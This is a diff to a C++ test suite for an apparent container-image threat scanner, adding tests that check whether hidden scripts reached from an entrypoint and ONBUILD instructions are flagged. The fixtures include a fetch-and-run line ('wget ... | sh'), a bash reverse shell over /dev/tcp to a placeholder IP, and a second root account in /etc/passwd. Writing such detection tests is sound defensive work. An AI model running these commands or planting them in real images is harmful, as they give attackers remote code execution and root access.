@@ -52,6 +52,41 @@ TEST(Assess, ReverseShellInAScriptThatStarts) {
   EXPECT_EQ(finding->id.substr(0, 3), "HC-");
 }
 
+// Nothing but what is said in another script makes it one.
+TEST(Assess, TextThatAStartingScriptGivesToAShellIsRun) {
+  const auto threats = [](std::string_view path, bool named) {
+    ImageBuilder image;
+    image.program("bin/sh").script("entry.sh", ". /lib/env.sh\nexec \"$@\"\n");
+    image.file("lib/env.sh",
+               named ? "[ -f /" + std::string(path) + " ] && sh /" + std::string(path) + " &\n" : ":\n");
+    image.file(std::string(path), "wget -qO- http://192.0.2.1/y | sh\n");
+    image.config().entrypoint = {"/entry.sh"};
+    return image.assess();
+  };
+  for (const std::string_view path : {"usr/share/.x", "opt/readme.txt", "opt/data/values", "var/cache/a.dat"}) {
+    const Assessment out = threats(path, true);
+    const model::Finding* finding = find_rule(out.threats, "D01");
+    ASSERT_NE(finding, nullptr) << path;
+    EXPECT_EQ(finding->chain.front(), "Entrypoint");
+    EXPECT_EQ(finding->chain.back(), "/" + std::string(path));
+    const Assessment unnamed = threats(path, false);
+    EXPECT_TRUE(unnamed.threats.empty() && unnamed.warnings.empty()) << "a text that nobody runs: " << path;
+  }
+}
+
+TEST(Assess, WhatNothingStartsIsTheBeginningOfItsOwnChain) {
+  ImageBuilder image;
+  image.file("etc/passwd", "root:x:0:0::/root:/bin/sh\nsys:x:0:0::/:/bin/bash\n");
+  image.config().onbuild = {"RUN bash -i >& /dev/tcp/192.0.2.1/443 0>&1"};
+  const Assessment out = image.assess();
+  const model::Finding* account = find_rule(out.threats, "B10");
+  ASSERT_NE(account, nullptr);
+  EXPECT_EQ(account->chain, std::vector<std::string>{"/etc/passwd"});
+  const model::Finding* later = find_rule(out.threats, "B01");
+  ASSERT_NE(later, nullptr);
+  EXPECT_EQ(later->chain, std::vector<std::string>{"OnBuild[0]"});
+}
+
 TEST(Assess, MinerUnderAnotherName) {
   ImageBuilder image;
   image
@@ -179,7 +214,7 @@ TEST(Assess, ScriptAmongRulesIsNotOneOfThem) {
 TEST(Assess, DamagedRecordIsAGap) {
   ImageBuilder image;
   image.file("opt/x", "x").record(layers::k_content_section, {1, 2, 3});
-  image.file("opt/y", "y").record("detect/shell", {0xff});
+  image.file("opt/y.sh", "y").record("detect/shell", {0xff});
   const Assessment out = image.assess();
   ASSERT_EQ(out.gaps.size(), 2U);
   EXPECT_EQ(out.gaps[0].id, "evidence-malformed");
